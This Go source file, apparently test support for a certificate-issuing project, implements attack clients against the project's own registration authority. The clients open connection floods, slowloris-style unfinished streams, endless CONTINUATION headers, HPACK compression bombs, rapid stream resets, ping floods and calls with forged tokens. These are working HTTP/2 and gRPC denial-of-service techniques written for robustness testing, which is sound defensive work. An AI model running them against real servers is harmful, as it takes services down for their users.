// Package attackers has clients that attack the port of a registration authority
// without a valid token: what a pod without any rights can do.
package attackers

import (
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"net"
	"net/netip"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials"
	"google.golang.org/grpc/metadata"

	"github.com/flexstack/step-csi/issuer"
	"github.com/flexstack/step-csi/issuer/ra/rapb"
	"github.com/flexstack/step-csi/test/reviews"
)

// Attack is one kind of attack.
type Attack struct {
	Name string
	// Run attacks from one address until ctx ends.
	Run func(ctx context.Context, a *Attacker)
}

// Attacker is one address that attacks.
type Attacker struct {
	Address string     // of the registration authority
	From    netip.Addr // the attacker's
	Plugin  issuer.Pod // whose token it forges
	// Pause is how long each of its senders waits between two attempts, or a hundred
	// frames.
	Pause time.Duration
	// Done counts connections, calls and frames.
	Done   atomic.Int64
	serial atomic.Int64
}

// All are the attacks.
func All() []Attack {
	return []Attack{
		{"silent connections", func(ctx context.Context, a *Attacker) { a.repeat(ctx, 64, a.silent) }},
		{"idle connections", func(ctx context.Context, a *Attacker) { a.repeat(ctx, 64, a.idle) }},
		{"unfinished messages", func(ctx context.Context, a *Attacker) { a.repeat(ctx, 4, a.unfinished) }},
		{"endless headers", func(ctx context.Context, a *Attacker) { a.repeat(ctx, 4, a.endlessHeaders) }},
		{"compressed headers", func(ctx context.Context, a *Attacker) { a.repeat(ctx, 4, a.compressedHeaders) }},
		{"resets", func(ctx context.Context, a *Attacker) { a.repeat(ctx, 4, a.resets) }},
		{"pings", func(ctx context.Context, a *Attacker) { a.repeat(ctx, 4, a.pings) }},
		{"calls with a.b.c", func(ctx context.Context, a *Attacker) { a.call(ctx, func() string { return "a.b.c" }) }},
		{"calls with forged tokens", func(ctx context.Context, a *Attacker) {
			a.call(ctx, func() string { return reviews.Token(a.Plugin, fmt.Sprint(a.From, a.serial.Add(1))) })
		}},
		{"calls with long texts", func(ctx context.Context, a *Attacker) {
			text := "Bearer " + strings.Repeat("spam ", 3000)
			a.call(ctx, func() string { return text })
		}},
	}
}

// repeat runs the attack again and again, many at a time.
func (a *Attacker) repeat(ctx context.Context, atOnce int, attack func(context.Context)) {
	var all sync.WaitGroup
	for range atOnce {
		all.Go(func() {
			for ctx.Err() == nil {
				attack(ctx)
				a.wait(ctx)
			}
		})
	}
	all.Wait()
}

func (a *Attacker) wait(ctx context.Context) {
	select {
	case <-ctx.Done():
	case <-time.After(max(a.Pause, time.Millisecond)):
	}
}

func (a *Attacker) dial(ctx context.Context) (net.Conn, error) {
	dialer := &net.Dialer{LocalAddr: net.TCPAddrFromAddrPort(netip.AddrPortFrom(a.From, 0)), Timeout: 5 * time.Second}
	c, err := dialer.DialContext(ctx, "tcp", a.Address)
	if err != nil {
		return nil, err
	}
	a.Done.Add(1)
	context.AfterFunc(ctx, func() { c.Close() })
	return c, nil
}

// silent connects and says nothing.
func (a *Attacker) silent(ctx context.Context) {
	c, err := a.dial(ctx)
	if err != nil {
		return
	}
	defer c.Close()
	_, _ = c.Read(make([]byte, 1)) // until the authority closes it
}

// session is an HTTP/2 connection.
type session struct {
	net.Conn
	*http2.Framer
	closed  chan struct{}
	headers bytes.Buffer
	encoder *hpack.Encoder
}

// connect makes an HTTP/2 connection.
func (a *Attacker) connect(ctx context.Context) (*session, error) {
	raw, err := a.dial(ctx)
	if err != nil {
		return nil, err
	}
	secure := tls.Client(raw, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
	_ = raw.SetDeadline(time.Now().Add(30 * time.Second))
	if _, err := secure.Write([]byte(http2.ClientPreface)); err != nil {
		raw.Close()
		return nil, err
	}
	s := &session{Conn: secure, Framer: http2.NewFramer(secure, secure), closed: make(chan struct{})}
	s.encoder = hpack.NewEncoder(&s.headers)
	if err := s.WriteSettings(); err != nil {
		raw.Close()
		return nil, err
	}
	go func() {
		defer close(s.closed)
		for {
			if _, err := s.ReadFrame(); err != nil {
				return
			}
		}
	}()
	return s, nil
}

// end closes the connection.
func (s *session) end() {
	s.Close()
	<-s.closed
}

// idle connects, and makes no call.
func (a *Attacker) idle(ctx context.Context) {
	s, err := a.connect(ctx)
	if err != nil {
		return
	}
	defer s.end()
	<-s.closed
}

// encode returns the headers of a call with the token.
func (s *session) encode(token string, more ...hpack.HeaderField) []byte {
	s.headers.Reset()
	for _, f := range append([]hpack.HeaderField{
		{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: "authority"},
		{Name: ":path", Value: rapb.RegistrationAuthority_Sign_FullMethodName}, {Name: "content-type", Value: "application/grpc"},
		{Name: "te", Value: "trailers"}, {Name: "authorization", Value: "Bearer " + token},
	}, more...) {
		_ = s.encoder.WriteField(f) // into memory
	}
	return s.headers.Bytes()
}

// unfinished sends many calls with a forged token, and their messages byte by byte,
// without an end.
func (a *Attacker) unfinished(ctx context.Context) {
	s, err := a.connect(ctx)
	if err != nil {
		return
	}
	defer s.end()
	const calls = 100
	for call := range uint32(calls) {
		token := reviews.Token(a.Plugin, fmt.Sprint(a.From, a.serial.Add(1)))
		if s.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*call + 1, BlockFragment: s.encode(token), EndHeaders: true}) != nil {
			return
		}
		if s.WriteData(2*call+1, false, []byte{0, 0, 0, 0x80, 0}) != nil { // a message of 32 KiB
			return
		}
	}
	for ctx.Err() == nil {
		for call := range uint32(calls) {
			if s.WriteData(2*call+1, false, []byte{0}) != nil {
				return
			}
			a.Done.Add(1)
		}
		a.wait(ctx)
	}
}

// endlessHeaders sends headers without an end.
func (a *Attacker) endlessHeaders(ctx context.Context) {
	s, err := a.connect(ctx)
	if err != nil {
		return
	}
	defer s.end()
	if s.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: s.encode("a.b.c")}) != nil {
		return
	}
	for n := 0; ctx.Err() == nil; n++ {
		s.headers.Reset()
		_ = s.encoder.WriteField(hpack.HeaderField{Name: fmt.Sprint("x-", n), Value: strings.Repeat("x", 4000), Sensitive: true})
		if s.WriteContinuation(1, false, s.headers.Bytes()) != nil {
			return
		}
		a.Done.Add(1)
		a.wait(ctx)
	}
}

// compressedHeaders sends calls whose headers are one byte each, and thousands of times
// as long for the authority.
func (a *Attacker) compressedHeaders(ctx context.Context) {
	s, err := a.connect(ctx)
	if err != nil {
		return
	}
	defer s.end()
	long := hpack.HeaderField{Name: "x", Value: strings.Repeat("x", 3000)}
	token := reviews.Token(a.Plugin, fmt.Sprint(a.From, a.serial.Add(1)))
	for call := uint32(1); ctx.Err() == nil; call += 2 {
		s.encode(token, long)
		for range 4000 {
			_ = s.encoder.WriteField(long)
		}
		if s.WriteHeaders(http2.HeadersFrameParam{StreamID: call, BlockFragment: s.headers.Bytes(), EndHeaders: true}) != nil {
			return
		}
		a.Done.Add(1)
		a.wait(ctx)
	}
}

// resets opens calls and resets them.
func (a *Attacker) resets(ctx context.Context) {
	s, err := a.connect(ctx)
	if err != nil {
		return
	}
	defer s.end()
	token := reviews.Token(a.Plugin, fmt.Sprint(a.From, a.serial.Add(1)))
	for call := uint32(1); ctx.Err() == nil; call += 2 {
		if s.WriteHeaders(http2.HeadersFrameParam{StreamID: call, BlockFragment: s.encode(token), EndHeaders: true}) != nil ||
			s.WriteRSTStream(call, http2.ErrCodeCancel) != nil {
			return
		}
		if a.Done.Add(1)%100 == 0 {
			a.wait(ctx)
		}
	}
}

// pings sends frames that are no calls.
func (a *Attacker) pings(ctx context.Context) {
	s, err := a.connect(ctx)
	if err != nil {
		return
	}
	defer s.end()
	for ctx.Err() == nil {
		if s.WritePing(false, [8]byte{}) != nil || s.WriteSettings() != nil {
			return
		}
		if a.Done.Add(1)%100 == 0 {
			a.wait(ctx)
		}
	}
}

// call calls with these tokens, through gRPC.
func (a *Attacker) call(ctx context.Context, token func() string) {
	dialer := &net.Dialer{LocalAddr: net.TCPAddrFromAddrPort(netip.AddrPortFrom(a.From, 0))}
	connection, err := grpc.NewClient("passthrough:///"+a.Address,
		grpc.WithTransportCredentials(credentials.NewTLS(&tls.Config{InsecureSkipVerify: true})),
		grpc.WithContextDialer(func(ctx context.Context, address string) (net.Conn, error) {
			return dialer.DialContext(ctx, "tcp", address)
		}),
		grpc.WithConnectParams(grpc.ConnectParams{MinConnectTimeout: time.Second}))
	if err != nil {
		return
	}
	defer connection.Close()
	client := rapb.NewRegistrationAuthorityClient(connection)
	a.repeat(ctx, 32, func(ctx context.Context) {
		limited, cancel := context.WithTimeout(metadata.AppendToOutgoingContext(ctx, "authorization", "Bearer "+token()), 10*time.Second)
		defer cancel()
		_, _ = client.Sign(limited, &rapb.SignRequest{Issuer: strings.Repeat("spam ", 5000)})
		a.Done.Add(1)
	})
}
